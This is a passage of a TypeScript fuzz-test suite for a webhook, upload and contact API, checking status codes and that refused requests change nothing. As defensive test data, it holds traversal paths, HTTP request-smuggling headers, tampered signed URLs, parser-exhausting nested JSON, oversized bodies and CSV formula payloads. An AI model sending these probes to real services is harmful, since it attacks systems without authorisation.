      case 'GET /api/v1/webhooks':
        c = { label: 'list webhooks', method: 'GET', path: '/api/v1/webhooks', headers: {}, expect: [200] };
        break;
      case 'GET /api/v1/webhooks/{id}':
      case 'DELETE /api/v1/webhooks/{id}':
      case 'POST /api/v1/webhooks/{id}/rotate-secret': {
        // deleting A's endpoint would end most webhook fuzzing: only ids that cannot exist are deleted
        const id = route.method === 'DELETE' ? { ...withIds(ids.aWebhook, ids.bWebhook) } : withIds(ids.aWebhook, ids.bWebhook);
        if (route.method === 'DELETE' && id.label.startsWith('own')) Object.assign(id, { id: r.uuid(), label: 'random uuid', expect: [404] });
        c = { label: `${key} ${id.label}`, method: route.method as Method, path: route.path.replace('{id}', id.id), headers: {}, expect: id.any ? undefined : (id.expect ?? (route.method === 'GET' || route.method === 'POST' ? [200] : undefined)) };
        break;
      }
      case 'PATCH /api/v1/webhooks/{id}': {
        const id = withIds(ids.aWebhook, ids.bWebhook);
        const valid = { description: 'patched', events: ['upload.completed', 'upload.failed'], is_active: true };
        const m: Mutation = r.chance(0.2) ? { body: json(valid), label: 'valid' } : mutateBody(r, { ...valid, url: `${receiver.url}/fail/x` }, ['url', 'description', 'events', 'is_active']);
        // a body error and a bad id: either complaint is right
        c = { label: `patch webhook ${id.label} ${m.label}`, method: 'PATCH', path: `/api/v1/webhooks/${id.id}`, headers: m.headers ?? JSON_CT, body: m.body, expect: m.label === 'valid' && !id.any ? id.expect : undefined, preGuard: m.preGuard };
        break;
      }
      case 'GET /api/v1/webhooks/{id}/deliveries': {
        const id = withIds(ids.aWebhook, ids.bWebhook);
        const q = listQuery(r, ['pending', 'in_flight', 'delivered', 'exhausted']);
        c = { label: `endpoint deliveries ${id.label} ${q.label}`, method: 'GET', path: `/api/v1/webhooks/${id.id}/deliveries`, query: q.query, headers: {}, expect: combine(id, q) };
        break;
      }
      case 'GET /api/v1/webhooks/{id}/stats': {
        const id = withIds(ids.aWebhook, ids.bWebhook);
        const good = r.chance(0.6);
        const hours = good ? String(r.int(720) + 1) : String(r.pick(['0', '721', 'abc', '-1', '1.5', '', '1e3', '99999999999999999999']));
        c = { label: `stats ${id.label} hours=${hours}`, method: 'GET', path: `/api/v1/webhooks/${id.id}/stats`, query: `hours=${encodeURIComponent(hours)}`, headers: {}, expect: combine(id, { expect: good ? [200] : [400], valid: good }) };
        break;
      }
      case 'POST /api/v1/webhooks/{id}/deliveries/{deliveryId}/retry': {
        const id = withIds(ids.aWebhook, ids.bWebhook);
        const d = withIds(ids.aDelivery, ids.bDelivery);
        c = { label: `retry ${id.label}/${d.label}`, method: 'POST', path: `/api/v1/webhooks/${id.id}/deliveries/${d.id}/retry`, headers: {}, expect: id.any || d.any ? undefined : id.own ? d.expect : d.own ? id.expect : [...new Set([...(id.expect ?? []), ...(d.expect ?? [])])] };
        break;
      }
      case 'POST /api/v1/webhooks/{id}/recover':
      case 'POST /api/v1/webhooks/{id}/test': {
        const id = withIds(ids.aWebhook, ids.bWebhook);
        const valid = route.path.endsWith('recover') ? { since: new Date(Date.now() - 3600_000).toISOString() } : { event_type: 'upload.completed' };
        const m: Mutation = r.chance(0.2) ? { body: json(valid), label: 'valid' } : mutateBody(r, valid, Object.keys(valid));
        c = { label: `${key} ${id.label} ${m.label}`, method: 'POST', path: route.path.replace('{id}', id.id), headers: m.headers ?? JSON_CT, body: m.body, expect: id.any ? undefined : m.label === 'valid' ? (id.expect ?? [200]) : undefined, preGuard: m.preGuard };
        break;
      }
      case 'GET /api/v1/deliveries': {
        const q = listQuery(r, ['pending', 'in_flight', 'delivered', 'exhausted'], ['upload_id', 'contact_id']);
        c = { label: `deliveries ${q.label}`, method: 'GET', path: '/api/v1/deliveries', query: q.query, headers: {}, expect: q.expect };
        break;
      }
      case 'GET /api/v1/deliveries/{id}': {
        const id = withIds(ids.aDelivery, ids.bDelivery);
        c = { label: `delivery ${id.label}`, method: 'GET', path: `/api/v1/deliveries/${id.id}`, headers: {}, expect: id.any ? undefined : (id.expect ?? [200]) };
        break;
      }
      case 'POST /api/v1/uploads':
        c = { headers: {}, ...uploadCase(r) } as Case;
        break;
      case 'GET /api/v1/uploads': {
        const q = listQuery(r, ['ready_for_processing', 'processing', 'completed', 'failed', 'cancelled', 'validating']);
        c = { label: `uploads ${q.label}`, method: 'GET', path: '/api/v1/uploads', query: q.query, headers: {}, expect: q.expect };
        break;
      }
      case 'GET /api/v1/uploads/{id}':
      case 'DELETE /api/v1/uploads/{id}': {
        const id = withIds(route.method === 'DELETE' ? ids.aCompleted : ids.aUpload, ids.bUpload);
        c = {
          label: `${key} ${id.label}`,
          method: route.method as Method,
          path: `/api/v1/uploads/${id.id}`,
          headers: {},
          // cancelling a completed upload is a 409 invalid_state
          expect: id.any ? undefined : (id.expect ?? (route.method === 'GET' ? [200] : [409])),
        };
        break;
      }
      case 'GET /api/v1/uploads/{id}/download/{kind}': {
        const id = withIds(ids.aCompleted, ids.bUpload);
        const good = r.chance(0.7);
        const kind = good ? r.pick(['original', 'processed', 'processed-filtered']) : enc(String(r.pick(['', 'Processed', 'processed_filtered', '..', 'original%00', 'x'.repeat(500), '😀']) ?? ''));
        c = { label: `download ${id.label} kind ${kind.slice(0, 20)}`, method: 'GET', path: `/api/v1/uploads/${id.id}/download/${kind}`, headers: {}, expect: id.any || kind === '..' || kind === '' ? undefined : good ? (id.expect ?? [200]) : combine(id, { expect: [404], valid: false }), unroutable: id.any || kind === '..' || kind === '' };
        break;
      }
      case 'POST /api/v1/contacts': {
        const valid: Record<string, unknown> = { phone: validPhones(1, (phoneSeq += 1))[0], properties: { name: 'fuzz', n: r.int(1000), ok: true, none: null }, idempotency_key: r.hex(16) };
        if (r.chance(0.3)) Object.assign(valid, { callback_url: `${receiver.url}/ok/contact`, callback_secret: 's'.repeat(20) });
        const m: Mutation = r.chance(0.25) ? { body: json(valid), label: 'valid' } : mutateBody(r, valid, Object.keys(valid));
        c = { label: `create contact ${m.label}`, method: 'POST', path: '/api/v1/contacts', headers: m.headers ?? JSON_CT, body: m.body, expect: m.label === 'valid' ? [200, 202] : undefined, preGuard: m.preGuard };
        break;
      }
      case 'GET /api/v1/contacts': {
        const q = listQuery(r, ['queued', 'processing', 'completed', 'failed', 'discarded']);
        c = { label: `contacts ${q.label}`, method: 'GET', path: '/api/v1/contacts', query: q.query, headers: {}, expect: q.expect };
        break;
      }
      case 'GET /api/v1/contacts/{id}':
      case 'DELETE /api/v1/contacts/{id}': {
        // A's contact for reads; a discarded one for cancels (so a cancel of an own id is always 409 invalid_state)
        const id = withIds(route.method === 'DELETE' ? ids.aDiscarded : ids.aContact, ids.bContact);
        c = { label: `${key} ${id.label}`, method: route.method as Method, path: `/api/v1/contacts/${id.id}`, headers: {}, expect: id.any ? undefined : (id.expect ?? (route.method === 'GET' ? [200] : [409])) };
        break;
      }
      default:
        throw new Error(`no generator for ${key}: a route was added — teach the fuzzer about it`);
    }
    // header misuse on top: the key decides before anything but body parsing, routing and 413
    c.headers = { ...auth.headers, ...c.headers };
    c.org = auth.org;
    if (authExpect) {
      // body parsing (400/413/415) and routing (404 for a path that `..` moved elsewhere) come before the key check
      const dotted = c.unroutable || /\/(\.\.\.?|%2e%2e)(\/|$)/i.test(c.path);
      c.expect = c.preGuard ? [400, 401, 413, 415] : dotted ? [401, 404] : /%ff%fe/.test(c.path) ? [400, 401] : authExpect;
      c.label += ` / ${auth.label}`;
    } else if (r.chance(0.08)) {
      // a scoped key of the same organization: allowed or 403 insufficient_scope, never anything else for a valid request
      const s = r.pick(Object.keys(scoped));
      c.headers = { ...c.headers, ...scoped[s].auth };
      c.label += ` / scope ${s}`;
      c.org = scoped[s];
      if (c.expect) c.expect = [...c.expect, 403];
    } else if (r.chance(0.04)) {
      const other = r.pick([broke, inactive]);
      c.headers = { ...c.headers, ...other.auth };
      c.label += other === broke ? ' / broke org' : ' / inactive org';
      c.org = other;
      c.expect = undefined;
    }
    if (r.chance(0.05)) c.headers['X-Request-Id'] = r.pick(['', ' ', 'a b', 'x'.repeat(500), '../../', '%00', 'ok-id_1.2:3']);
    if (r.chance(0.03)) c.headers['Accept'] = r.pick(['text/html', 'application/xml', '*/*;q=0', '']);
    return c;
  }

  function publicCase(r: Rng, which: number): Case {
    switch (which) {
      case 0: {
        // the signed download URL, tampered with
        const u = new URL(ids.signedFile, 'http://x');
        const good = r.chance(0.2);
        if (!good) {
          const p = r.int(6);
          if (p === 0) u.searchParams.set('signature', u.searchParams.get('signature')!.replace(/.$/, (ch) => (ch === 'a' ? 'b' : 'a')));
          else if (p === 1) u.searchParams.set('expires', r.pick(['1e309', '-1', 'abc', '', '99999999999999999999', '1.5', String(Math.floor(Date.now() / 1000) - 10)]));
          else if (p === 2) u.searchParams.delete(r.pick(['signature', 'expires']));
          else if (p === 3) u.searchParams.append('signature', 'x');
          else if (p === 4) u.pathname = u.pathname.replace(/[^/]+$/, r.pick(['original', 'nope', '..', '%00']));
          else u.pathname = u.pathname.replace(ids.aCompleted, r.pick([ids.bUpload, r.uuid(), 'abc']));
        }
        return { label: `signed file ${good ? 'valid' : 'tampered'}`, method: 'GET', path: u.pathname, query: u.search.slice(1), headers: {}, expect: good ? [200] : undefined };
      }
      case 1:
        return { label: 'health', method: 'GET', path: r.pick(['/health/live', '/health/ready']), query: r.chance(0.5) ? 'x=%ff' : undefined, headers: {}, expect: [200] };
      case 2:
        return { label: 'metrics', method: 'GET', path: '/metrics', headers: {}, expect: [200] };
      default: {
        const path = r.pick([
          '/api/v1/nope',
          '/api/v2/uploads',
          '/api/v1/uploads/x/y/z',
          `/api/v1/webhooks/${ids.aWebhook}/nope`,
          '/api/v1//uploads',
          '/API/V1/ME',
          '/api/v1/me/',
          '/',
          '/.env',
          '/api/v1/%ff',
          '/api/v1/uploads%00',
          `/${'a'.repeat(5000)}`,
        ]);
        const method = r.pick<Method>(['GET', 'PUT', 'PATCH', 'DELETE', 'OPTIONS', 'POST', 'HEAD']);
        return { label: `unknown route ${method}`, method, path, headers: { ...A.auth }, org: A };
      }
    }
  }

  /* ---------------------------------------------------------------- the fixed heavy and raw cases */

  function heavyCases(): Case[] {
    const deepArrays = (n: number) => '['.repeat(n) + ']'.repeat(n);
    const deepObjects = (n: number) => '{"a":'.repeat(n) + '1' + '}'.repeat(n);
    const h = { ...A.auth, 'Content-Type': 'application/json' };
    const boundary = '----heavy0123456789';
    const mpH = { ...A.auth, 'Content-Type': `multipart/form-data; boundary=${boundary}` };
    const col = { name: 'phone_column', data: 'phone' };
    const phones = validPhones(150, 9_000_000);
    const wide = 10_000;
    const header10k = ['phone', ...Array.from({ length: wide - 1 }, (_, i) => `c${i}`)].join(',');
    const row10k = (p: string) => [p, ...Array.from({ length: wide - 1 }, () => '1')].join(',');
    const c: Case[] = [];
    for (const [path, method, field] of [
      ['/api/v1/webhooks', 'POST', 'events'],
      ['/api/v1/webhooks', 'POST', 'url'],
      [`/api/v1/webhooks/${ids.aWebhook}`, 'PATCH', 'events'],
      [`/api/v1/webhooks/${ids.aWebhook}/test`, 'POST', 'event_type'],
      [`/api/v1/webhooks/${ids.aWebhook}/recover`, 'POST', 'since'],
      ['/api/v1/uploads', 'POST', 'phone_numbers'],
      ['/api/v1/uploads', 'POST', 'contacts'],
      ['/api/v1/uploads', 'POST', 'webhook'],
    ] as const) {
      c.push({ label: `10,000 nested arrays in ${field}`, method, path, headers: h, body: Buffer.from(`{"${field}":${deepArrays(10_000)}}`) });
      c.push({ label: `10,000 nested objects in ${field}`, method, path, headers: h, body: Buffer.from(`{"${field}":${deepObjects(10_000)}}`) });
      c.push({ label: `100,000 nested arrays as the body`, method, path, headers: h, body: Buffer.from(deepArrays(100_000)) });
    }
    c.push({ label: 'contacts with 10,000 nested arrays as a phone', method: 'POST', path: '/api/v1/uploads', headers: h, body: Buffer.from(`{"contacts":[{"phone":${deepArrays(10_000)}}]}`) });
    c.push({ label: 'phone_numbers with 150 valid + a deep entry', method: 'POST', path: '/api/v1/uploads', headers: h, body: Buffer.from(`{"phone_numbers":${JSON.stringify(phones).replace(/\]$/, `,${deepArrays(5000)}]`)}}`) });
    c.push({ label: 'webhook JSON body over 1 MB', method: 'POST', path: '/api/v1/webhooks', headers: h, body: json({ url: 'https://example.com', description: 'x'.repeat(2 * MB) }), expect: [413] });
    c.push({ label: 'upload JSON body over its 64 MB limit', method: 'POST', path: '/api/v1/uploads', headers: h, body: Buffer.concat([Buffer.from('{"phone_numbers":["'), Buffer.alloc(65 * MB, '1'), Buffer.from('"]}')]), expect: [413] });
    c.push({ label: '250,001 entries', method: 'POST', path: '/api/v1/uploads', headers: h, body: json({ phone_numbers: new Array(250_001).fill('1') }), expect: [413] });
    c.push({ label: '250,001 contacts', method: 'POST', path: '/api/v1/uploads', headers: h, body: json({ contacts: new Array(250_001).fill({}) }), expect: [413] });
    // a single 50 MB line: as the only data row, and as the header
    const line50 = Buffer.alloc(50 * MB, '7');
    c.push({ label: 'CSV with a single 50 MB data line', method: 'POST', path: '/api/v1/uploads', headers: mpH, body: multipartBody([col, { name: 'file', filename: 'long.csv', data: Buffer.concat([Buffer.from('phone\r\n'), line50, Buffer.from('\r\n')]) }], boundary), expect: [400] });
    c.push({ label: 'CSV whose header is a single 50 MB line', method: 'POST', path: '/api/v1/uploads', headers: mpH, body: multipartBody([col, { name: 'file', filename: 'long.csv', data: line50 }], boundary), expect: [400] });
    c.push({ label: 'CSV of 50 MB in one quoted field', method: 'POST', path: '/api/v1/uploads', headers: mpH, body: multipartBody([col, { name: 'file', filename: 'q.csv', data: Buffer.concat([Buffer.from('phone\r\n"'), line50]) }], boundary), expect: [400] });
    c.push({ label: 'CSV over the 100 MB limit', method: 'POST', path: '/api/v1/uploads', headers: mpH, body: multipartBody([col, { name: 'file', filename: 'big.csv', data: Buffer.concat([Buffer.from(csvOf(phones)), Buffer.alloc(101 * MB, '\n')]) }], boundary), expect: [413] });
    c.push({ label: '10,000 columns, 150 valid rows', method: 'POST', path: '/api/v1/uploads', headers: mpH, body: multipartBody([col, { name: 'file', filename: 'wide.csv', data: [header10k, ...phones.map(row10k)].join('\n') + '\n' }], boundary), expect: [200], org: A });
    c.push({ label: '10,000 columns, phone column last', method: 'POST', path: '/api/v1/uploads', headers: mpH, body: multipartBody([{ name: 'phone_column', data: `c${wide - 2}` }, { name: 'file', filename: 'wide.csv', data: [header10k, ...phones.map(row10k)].join('\n') + '\n' }], boundary), expect: [422] });
    c.push({ label: '10,000 columns header only', method: 'POST', path: '/api/v1/uploads', headers: mpH, body: multipartBody([col, { name: 'file', filename: 'wide.csv', data: header10k }], boundary), expect: [422] });
    c.push({ label: '1 MB of binary garbage', method: 'POST', path: '/api/v1/uploads', headers: mpH, body: multipartBody([col, { name: 'file', filename: 'bin.csv', data: new Rng(SEED + 1).bytes(MB) }], boundary) });
    c.push({ label: '10,000 ragged rows of garbage', method: 'POST', path: '/api/v1/uploads', headers: mpH, body: multipartBody([col, { name: 'file', filename: 'rag.csv', data: 'phone\n' + Array.from({ length: 10_000 }, (_, i) => ','.repeat(i % 50)).join('\n') }], boundary), expect: [422] });
    c.push({ label: 'formula payloads in every column (accepted)', method: 'POST', path: '/api/v1/uploads', headers: mpH, body: multipartBody([col, { name: 'file', filename: '=1+1.csv', data: csvOf(validPhones(120, 9_100_000), 4, (i) => FORMULAS[i % FORMULAS.length]) }], boundary), expect: [200], org: A });
    for (const x of c) x.org ??= A;
    return c;
  }

  function rawCases(port: number): Array<{ label: string; bytes: Buffer | string; expect?: number[] }> {
    const key = A.apiKey;
    const r = (head: string, body = '') => `${head}\r\nHost: 127.0.0.1\r\nConnection: close\r\n${body ? `Content-Length: ${Buffer.byteLength(body)}\r\n` : ''}\r\n${body}`;
    const withAuth = (line: string, auth: string[]) => `${line}\r\nHost: 127.0.0.1\r\nConnection: close\r\n${auth.map((a) => `Authorization: ${a}\r\n`).join('')}\r\n`;
    void port;
    return [
      { label: 'Authorization: Bearer (nothing)', bytes: withAuth('GET /api/v1/me HTTP/1.1', ['Bearer']), expect: [401] },
      { label: 'Authorization: Bearer + space', bytes: withAuth('GET /api/v1/me HTTP/1.1', ['Bearer ']), expect: [401] },
      { label: 'empty Authorization', bytes: withAuth('GET /api/v1/me HTTP/1.1', ['']), expect: [401] },
      { label: 'two valid Authorization headers', bytes: withAuth('GET /api/v1/me HTTP/1.1', [`Bearer ${key}`, `Bearer ${key}`]), expect: [401] },
      { label: 'valid then empty Authorization', bytes: withAuth('GET /api/v1/me HTTP/1.1', [`Bearer ${key}`, '']), expect: [401] },
      { label: 'empty then valid Authorization', bytes: withAuth('GET /api/v1/me HTTP/1.1', ['', `Bearer ${key}`]), expect: [401] },
      { label: 'valid Authorization, lowercase header name duplicate', bytes: `GET /api/v1/me HTTP/1.1\r\nHost: x\r\nConnection: close\r\nAuthorization: Bearer ${key}\r\nauthorization: Bearer ${key}\r\n\r\n`, expect: [401] },
      { label: 'Authorization with a NUL byte', bytes: withAuth('GET /api/v1/me HTTP/1.1', [`Bearer ${key}\u0000`]), expect: [400, 401] },
      { label: 'Authorization with invalid UTF-8', bytes: Buffer.concat([Buffer.from('GET /api/v1/me HTTP/1.1\r\nHost: x\r\nConnection: close\r\nAuthorization: Bearer od_live_'), Buffer.from([0xff, 0xfe, 0xc0]), Buffer.from('\r\n\r\n')]), expect: [401] },
      { label: 'Authorization folded over two lines', bytes: `GET /api/v1/me HTTP/1.1\r\nHost: x\r\nConnection: close\r\nAuthorization: Bearer\r\n ${key}\r\n\r\n`, expect: [400, 401] },
      { label: 'invalid UTF-8 in the path', bytes: Buffer.concat([Buffer.from('GET /api/v1/uploads/'), Buffer.from([0xff, 0xfe]), Buffer.from(` HTTP/1.1\r\nHost: x\r\nConnection: close\r\nAuthorization: Bearer ${key}\r\n\r\n`)]), expect: [400, 404] },
      { label: 'percent-encoded invalid UTF-8 in the id', bytes: withAuth('GET /api/v1/uploads/%FF%FE HTTP/1.1', [`Bearer ${key}`]), expect: [400, 404] },
      { label: 'malformed percent-encoding in the id', bytes: withAuth('GET /api/v1/uploads/%E0%A4%A HTTP/1.1', [`Bearer ${key}`]), expect: [400, 404] },
      { label: 'malformed percent-encoding in a nested id', bytes: withAuth(`GET /api/v1/webhooks/%%/deliveries HTTP/1.1`, [`Bearer ${key}`]), expect: [400, 404] },
      { label: 'percent-encoded NUL in the id', bytes: withAuth('GET /api/v1/webhooks/%00 HTTP/1.1', [`Bearer ${key}`]), expect: [404] },
      { label: 'malformed percent-encoding in the query', bytes: withAuth('GET /api/v1/uploads?limit=%E0%A4%A HTTP/1.1', [`Bearer ${key}`]), expect: [400] },
      { label: 'invalid UTF-8 in the query', bytes: withAuth('GET /api/v1/uploads?cursor=%FF%FE HTTP/1.1', [`Bearer ${key}`]), expect: [400] },
      { label: 'raw NUL in the query', bytes: Buffer.concat([Buffer.from('GET /api/v1/uploads?limit=1'), Buffer.from([0]), Buffer.from(` HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`)]), expect: [400, 401] },
      { label: 'malformed percent-encoding in a download kind', bytes: withAuth(`GET /api/v1/uploads/${ids.aCompleted}/download/%E0%A4%A HTTP/1.1`, [`Bearer ${key}`]), expect: [400, 404] },
      { label: 'malformed percent-encoding in a signed file URL', bytes: r(`GET /files/%E0%A4%A/original?expires=1&signature=x HTTP/1.1`), expect: [400, 403, 404] },
      { label: 'unknown method', bytes: r('FOO /api/v1/me HTTP/1.1'), expect: [400, 404, 405, 501] },
      { label: 'HTTP/1.0 without Host', bytes: `GET /api/v1/me HTTP/1.0\r\nAuthorization: Bearer ${key}\r\n\r\n`, expect: [200] },
      { label: 'header block over 16 KB', bytes: `GET /api/v1/me HTTP/1.1\r\nHost: x\r\nConnection: close\r\nX-Big: ${'a'.repeat(20_000)}\r\n\r\n`, expect: [431, 400] },
      { label: 'Content-Length not a number', bytes: `POST /api/v1/webhooks HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Type: application/json\r\nContent-Length: abc\r\n\r\n{}`, expect: [400] },
      { label: 'two different Content-Lengths', bytes: `POST /api/v1/webhooks HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Type: application/json\r\nContent-Length: 2\r\nContent-Length: 3\r\n\r\n{}`, expect: [400] },
      { label: 'Content-Length and chunked', bytes: `POST /api/v1/webhooks HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Type: application/json\r\nContent-Length: 2\r\nTransfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\n\r\n`, expect: [400] },
      { label: 'broken chunked body', bytes: `POST /api/v1/webhooks HTTP/1.1\r\nHost: x\r\nConnection: close\r\nAuthorization: Bearer ${key}\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n{}\r\n0\r\n\r\n`, expect: [400] },
      { label: 'header name with a space', bytes: `GET /api/v1/me HTTP/1.1\r\nHost: x\r\nConnection: close\r\nBad Header: 1\r\n\r\n`, expect: [400] },
      { label: 'bare LF line endings', bytes: `GET /api/v1/me HTTP/1.1\nHost: x\nConnection: close\nAuthorization: Bearer ${key}\n\n`, expect: [200, 400] },
      { label: 'JSON body with invalid UTF-8 and a NUL', bytes: Buffer.concat([Buffer.from(`POST /api/v1/webhooks HTTP/1.1\r\nHost: x\r\nConnection: close\r\nAuthorization: Bearer ${key}\r\nContent-Type: application/json\r\nContent-Length: 16\r\n\r\n{"url":"`), Buffer.from([0xff, 0x00, 0xc3]), Buffer.from('x"}  ')]), expect: [400] },
      { label: 'absolute-form request target', bytes: withAuth(`GET http://evil.example/api/v1/me HTTP/1.1`, [`Bearer ${key}`]), expect: [200, 400, 404] },
      { label: 'asterisk request target', bytes: r('OPTIONS * HTTP/1.1'), expect: [400, 404] },
      { label: 'path without a leading slash', bytes: withAuth('GET api/v1/me HTTP/1.1', [`Bearer ${key}`]), expect: [400, 404] },
    ];
  }

  /* ---------------------------------------------------------------- generated from the document (issue 13) */

  /** Every row of every table (rate-limit counters and key usage times aside), to prove a refusal wrote nothing. */
  async function fingerprint(): Promise<string> {
    const ds = db.dataSource;
    const tables = [...new Set(ds.entityMetadatas.map((m) => m.tableName))].filter((x) => x !== 'rate_limit_counters').sort();
    const parts: string[] = [];
    for (const table of tables) {
      const rows: Array<Record<string, unknown>> = await ds.query(`SELECT * FROM ${table}`);
      const clean = rows.map((row) => JSON.stringify(Object.entries(row).filter(([k]) => k !== 'last_used_at').sort(([a], [b]) => (a < b ? -1 : 1)))).sort();
      parts.push(`${table}:${clean.join('\n')}`);
    }
    return `${parts.join('\n\n')}\n\nstored files: ${storedFiles(t).sort().join(',')}`;
  }

  it('every property of every request body and every query parameter, from /docs-json: null, wrong type, missing → 4xx envelope, nothing written', async () => {
    const doc = (await t.http.get('/docs-json').expect(200)).body;
    const schemas = doc.components.schemas as Record<string, any>;
    const deref = (s: any): any => (s?.$ref ? deref(schemas[s.$ref.split('/').pop()]) : s);
    const iso = new Date(0).toISOString();
    // a body each operation accepts; an operation with a body and no entry here fails the test (add one)
    const VALID: Record<string, () => Record<string, unknown>> = {
      createWebhook: () => ({ url: `${receiver.url}/ok/doc`, events: ['upload.completed'], description: 'from the document' }),
      updateWebhook: () => ({ url: `${receiver.url}/ok/doc2`, description: 'd', events: ['upload.completed'], is_active: true }),
      recoverWebhookDeliveries: () => ({ since: iso }),
      sendWebhookTestEvent: () => ({ event_type: 'upload.completed' }),
      createContact: () => ({ phone: validPhones(1, 8_100_000)[0], properties: { source: 'doc' }, callback_url: `${receiver.url}/ok/contact-doc`, callback_secret: 's'.repeat(20), idempotency_key: 'from-the-document' }),
      createUpload: () => ({ filename: 'doc.csv', phone_numbers: validPhones(120, 8_000_000), skip_mobile_lookup: false, webhook: { url: `${receiver.url}/ok/up`, delay: 60, secret: 's'.repeat(20) } }),
    };
    const wrongValue = (schema: any): unknown => {
      const s = deref(schema);
      switch (s?.type) {
        case 'string': return 12345;
        case 'integer':
        case 'number': return '12';
        case 'boolean': return 'true';
        case 'array': return { not: 'an array' };
        case 'object': return 'not an object';
        default: return s?.oneOf || s?.enum ? 12345 : Symbol.for('skip');
      }
    };
    interface DocCase { label: string; method: string; path: string; query?: string; body?: unknown; field: string }
    const cases: DocCase[] = [];
    const missingBase: string[] = [];
    for (const [template, item] of Object.entries<Record<string, any>>(doc.paths)) {
      for (const [method, op] of Object.entries<any>(item)) {
        const idFor = (k: string) =>
          k === 'kind' ? 'original' : k === 'deliveryId' ? ids.aDelivery : template.startsWith('/api/v1/uploads') ? ids.aUpload : template.startsWith('/api/v1/deliveries') ? ids.aDelivery : ids.aWebhook;
        const path = template.replace(/\{(\w+)\}/g, (_m, k: string) => idFor(k));
        const M = method.toUpperCase();
        // query parameters: an empty value, the text "null", a value of the wrong type
        for (const param of (op.parameters ?? []).filter((x: any) => x.in === 'query')) {
          const s = deref(param.schema) ?? {};
          const wrong = s.enum ? 'not_one_of_them' : s.type === 'integer' || s.type === 'number' ? 'abc' : s.format === 'uuid' ? 'not-a-uuid' : '%%%';
          for (const [label, value] of [['empty', ''], ['"null"', 'null'], ['wrong type', wrong]] as const) {
            cases.push({ label: `query ${param.name} ${label}`, method: M, path, query: `${encodeURIComponent(param.name)}=${value === '%%%' ? '%25%25%25' : encodeURIComponent(value)}`, field: param.name });
          }
        }
        const content = op.requestBody?.content?.['application/json'];
        if (!content) continue;
        if (!VALID[op.operationId]) {
          missingBase.push(op.operationId);
          continue;
        }
        const base = VALID[op.operationId]();
        let schema = deref(content.schema);
        // createUpload documents two bodies (multipart | JSON): the JSON one is the alternative the base body fits
        if (schema.oneOf) schema = schema.oneOf.map(deref).find((alt: any) => Object.keys(base).every((k) => alt.properties?.[k]));
        const walk = (sch: any, prefix: string[], holder: Record<string, unknown>) => {
          for (const [name, raw] of Object.entries<any>(sch.properties ?? {})) {
            const prop = deref(raw);
            const fieldPath = [...prefix, name];
            const at = (value: unknown | typeof DELETE) => {
              const body = JSON.parse(JSON.stringify(base));
              let target = body;
              for (const k of prefix) target = target[k];
              if (value === DELETE) delete target[name];
              else target[name] = value;
              return body;
            };
            const field = fieldPath.join('.');
            if (!(prop.nullable || raw.nullable)) cases.push({ label: `${field} null`, method: M, path, body: at(null), field });
            const wrong = wrongValue(prop);
            if (wrong !== Symbol.for('skip')) cases.push({ label: `${field} wrong type`, method: M, path, body: at(wrong), field });
            if ((sch.required ?? []).includes(name)) cases.push({ label: `${field} missing`, method: M, path, body: at(DELETE), field });
            const nested = holder[name];
            if (prop.type === 'object' || prop.properties) {
              if (nested && typeof nested === 'object' && !Array.isArray(nested)) walk(prop, fieldPath, nested as Record<string, unknown>);
            }
          }
        };
        walk(schema, [], base);
      }
    }
    expect(missingBase).toEqual([]);
    const fieldsCovered = new Set(cases.filter((c) => c.body !== undefined).map((c) => c.field));
    process.stderr.write(`fuzz from the document: ${cases.length} cases over ${fieldsCovered.size} body properties and ${cases.filter((c) => c.query).length / 3} query parameters\n`);
    // the generator reaches nested properties and the properties every operation documents
    for (const f of ['url', 'events', 'description', 'is_active', 'since', 'event_type', 'filename', 'phone_numbers', 'contacts', 'skip_mobile_lookup', 'webhook', 'webhook.url', 'webhook.delay', 'webhook.secret']) {
      expect({ f, covered: fieldsCovered.has(f) }).toEqual({ f, covered: true });
    }

    const problems: string[] = [];
    let before = await fingerprint();
    for (const c of cases) {
      let r = (t.http as unknown as Record<string, (u: string) => any>)[c.method.toLowerCase()](`${c.path}${c.query ? `?${c.query}` : ''}`).set(A.auth);
      if (c.body !== undefined) r = r.send(c.body);
      const res = await r.ok(() => true);
      const where = `${c.method} ${c.path} [${c.label}]`;
      if (res.status < 400 || res.status >= 500) problems.push(`${where}: ${res.status} ${res.text.slice(0, 200)}`);
      const env = envelopeProblem(res.body);
      if (env) problems.push(`${where}: ${env}`);
      const detail = res.body?.detail;
      // a validation failure names the field (or its message does, for cross-field rules such as "exactly one of")
      if (res.status === 400 && detail?.error === 'validation_failed' && !Object.keys(detail.fields ?? {}).includes(c.field) && !String(detail.message).includes(c.field.split('.').pop()!)) {
        problems.push(`${where}: validation_failed does not name ${c.field}: ${JSON.stringify(detail).slice(0, 200)}`);
      }
      const after = await fingerprint();
      if (after !== before) problems.push(`${where}: refused with ${res.status} but a table changed`);
      before = after;
    }
    expect(problems).toEqual([]);
  }, 600_000);

  /* ---------------------------------------------------------------- the run */

  it(`${REQUESTS}+ generated requests: no 5xx, §2 envelopes, nothing changed by a rejected request, memory back near baseline`, async () => {
    const gc = gcFunction();
    const rng = new Rng(SEED);
    const generated = Array.from({ length: REQUESTS }, () => generate(rng));
    const seenRoutes = new Set(generated.map((c) => `${c.method} ${c.path}`));
    const initialCredits = (await snapshot(db)).credits;

    // warm up (JIT, pools, lazy requires), then measure the baseline
    await runAll(generated.slice(0, 200), 0);
    gc();
    await new Promise((r) => setTimeout(r, 200));
    gc();
    const baseline = process.memoryUsage();
    let peak = baseline.rss;
    const sampler = setInterval(() => (peak = Math.max(peak, process.memoryUsage().rss)), 50);
    const started = Date.now();
    try {
      await runAll(generated.slice(200), 200);
      // the heavy cases, one at a time, with the same database comparison
      current = await state();
      for (const [k, c] of heavyCases().entries()) {
        const o = await send(c);
        record(`heavy ${k}`, c, o);
        account(c, o);
        stats.heavy++;
        const after = await state();
        if (o.status >= 400) {
          const d = stateDiff(current, after);
          if (d) failures.push(`heavy [${c.label}]: rejected with ${o.status} but the database changed: ${d}`);
          stats.rejectedWritesVerified++;
        } else stats.accepted++;
        current = after;
      }
      // what no HTTP client library sends
      const port = (t.app.getHttpServer().address() as { port: number }).port;
      for (const rc of rawCases(port)) {
        const before = await state();
        const o = await rawRequest(port, rc.bytes);
        stats.raw++;
